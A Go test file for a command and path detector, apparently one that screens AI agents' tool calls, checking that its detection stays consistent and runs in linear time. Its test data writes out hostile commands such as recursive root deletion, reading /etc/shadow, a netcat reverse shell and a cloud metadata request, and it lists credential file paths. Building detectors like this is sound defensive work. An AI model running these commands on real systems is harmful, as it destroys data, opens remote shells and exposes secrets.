package detect_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/rulewind/rulewind/proxy/detect"
)

// TestPlainCommandsReadAlike holds the short way of reading commands of plain words
// against the parser, which a comment at the end forces.
func TestPlainCommandsReadAlike(t *testing.T) {
	for _, cmd := range []string{
		"rm -rf /", "  rm   -r -f /etc ", "sudo rm -rf /usr", "busybox rm -rf /", "cat /etc/shadow", "cat a ../../../etc/shadow b",
		"time rm -rf /", "export PATH", "declare -x a", "coproc rm -rf /", "exec rm -rf /",
		"curl http://169.254.169.254/latest", "ping 10.0.0.1", "nc -e /bin/sh 192.0.2.1 4444", "chmod -R 777 /", "git push --force origin main",
		"docker run -v /:/host -it alpine sh", "ssh host rm -rf /", "env -S rm", "npm install left-pad", "history -c", "ls", "",
	} {
		want := detect.Commands | detect.Paths | detect.Egress
		plain := detect.Find(nil, arg("run", "command", cmd), want)
		parsed := detect.Find(nil, arg("run", "command", cmd+" # {}"), want)
		if !slices.Equal(plain, parsed) {
			t.Errorf("%q: read without the parser %+v, with it %+v", cmd, plain, parsed)
		}
	}
}

// TestPatternsAreLinear counts the text that patterns get: four times a text made of
// all literals must not bring more than about four times as much, on one line as on
// many.
func TestPatternsAreLinear(t *testing.T) {
	lines := keywords(512 << 10)
	for name, text := range map[string]string{"lines": lines, "one line": strings.ReplaceAll(lines, "\n", " ")} {
		work := func(text string) (sum int) {
			for _, n := range detect.Verified(text) {
				sum += n
			}
			return sum
		}
		short, long := work(text[:len(text)/4]), work(text)
		if long > 5*short {
			t.Errorf("%s: four times the text brings %d bytes to patterns instead of %d", name, long, short)
		}
		if most := 20 * len(text); long > most {
			t.Errorf("%s: patterns get %d times the text; bound what is repeated in them", name, long/len(text))
		}
	}
}

// TestWordsAreReadOnce feeds words whose readings once multiplied: it ends only if
// they don't.
func TestWordsAreReadOnce(t *testing.T) {
	tests := []struct {
		name, text, kind string
	}{
		{"separators", "cat " + strings.Repeat("a=b:", 200) + "/etc/shadow", "credential-read"},
		{"stages", "cat /etc/shadow" + strings.Repeat(" | sh", 6000), "pipe-to-shell"},
		{"variables", "a=" + strings.Repeat("x", 1000) + "; echo " + strings.Repeat("$a", 6000) + "; rm -rf /", "destructive-delete"},
		{"substitutions", "rm -rf /; echo " + strings.Repeat("{a,b,c,d,e,f,g,h,i,j,k,l,m,n,o,p,q,r,s,t,u,v,w,x}$(echo ", 5) + "x" + strings.Repeat(")", 5), "destructive-delete"},
		{"one line", "rm -rf / " + strings.Repeat("eval base64 .ssh/ process.env a=b:c ", 4000), "destructive-delete"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, f := range detect.Find(nil, arg("run", "command", tt.text), detect.Commands|detect.Paths|detect.Egress) {
				if f.Kind == tt.kind {
					return
				}
			}
			t.Errorf("%s not found", tt.kind)
		})
	}
}

// TestPlainPathsReadAlike holds the short way of reading paths against CleanPaths.
func TestPlainPathsReadAlike(t *testing.T) {
	for _, p := range []string{
		"src/main.go", "./src/main.go", "/home/dev/.ssh/id_rsa", "home/dev/.ssh/", "./.env", ".env", ".env.example", "/etc/shadow", "/etc/shadow/",
		"a/.aws/credentials", ".git/hooks/pre-commit", "/proc/self/environ", "certs/server.key", "./...", "a//b/.env", "a/./.env", "./mnt/c/etc/shadow", ".//etc/shadow", "./", "/", ".",
	} {
		want, wantLater := detect.NoScore, detect.NoScore
		for _, c := range detect.CleanPaths(p, "", "") {
			_, score := detect.SensitivePath(c)
			want, wantLater = max(want, score), max(wantLater, detect.RunLaterPath(c))
		}
		got, later := detect.NoScore, detect.NoScore
		for _, f := range detect.Find(nil, arg("write_file", "path", p), detect.Paths) {
			switch f.Kind {
			case "run-later-write":
				later = max(later, f.Score)
			case "traversal":
			default:
				got = max(got, f.Score)
			}
		}
		if len(p) > 1 && (got != want || later != wantLater) {
			t.Errorf("%q: sensitive %d, run later %d; by all its readings %d and %d", p, got, later, want, wantLater)
		}
	}
}

// viewTriggers are what makes views and parsers look closer at a text.
var viewTriggers = []string{
	"%41", "%2541", "%u0041", "&lt;", "&#x41;", "&amp;amp;lt;", `\x41`, `\u0041`, `\\`, "%", "&", "YWJjZGVmZ2hpamtsbW5vcA==\n", "QUJD", "61626364", "61 62 ", "0x61,",
	"\u200b", "\U000e0041", "\u0430", "\u202e", "\ufe0f", "\uff21", "\x1b[8m", "\x1b]", "\x08", "\x00", "\xff", "1234 ", "4242-4242-", "DE89 3704 ", "+1 415 555 2671 ",
	"a@b.cc ", "@", "://", "http://10.0.0.1/ ", "www.", "../", "/", `C:\`, "~/.ssh/", "$(", "`", "'", "\"", "{", "((", "[[", "<<a\n", "|", "; ", "&& ", "a=b; $a ", "${a}", "{a,b}",
	"*", "if ", "<!--", "'; --", "select ", "token=", "q8Zt3Lw0Xv7Rb2Ny5Kd9 ", "-----BEGIN ", "ignore ", "the user ", "sk-", "eyJ", "a", " ", "\n", "1",
}

// TestEverythingIsLinear repeats what each rule is searched by, and what makes views
// and parsers look closer, alone and in pairs: four times the text must not be four
// times as much work and a half, counted in bytes looked at.
func TestEverythingIsLinear(t *testing.T) {
	texts := map[string]string{}
	for i, r := range detect.Rules() {
		if words := detect.Primaries(i); len(words) > 0 && (!testing.Short() || i%16 == 0) {
			texts[r.Kind+" "+words[0]] = strings.Join(words, "") + " " + strings.Join(words, " ") + " "
		}
	}
	for i, a := range viewTriggers {
		texts[a] = a
		if !testing.Short() {
			b := viewTriggers[(i*7+3)%len(viewTriggers)]
			texts[a+b] = a + b
		}
	}
	for name, unit := range texts {
		for _, place := range places {
			size := max(4<<10, 2*len(unit))
			work := func(size int) int {
				return detect.Work(detect.Text{Value: repeat(unit, size), Name: "x", Place: place})
			}
			short, long := work(size), work(4*size)
			if long > 6*short {
				t.Errorf("%.40q at place %d: four times the text is %d bytes of work instead of %d", name, place, long, short)
			}
			if most := 120 * 4 * size; long > most {
				t.Errorf("%.40q at place %d: %d times its bytes are looked at", name, place, long/(4*size))
			}
		}
	}
}
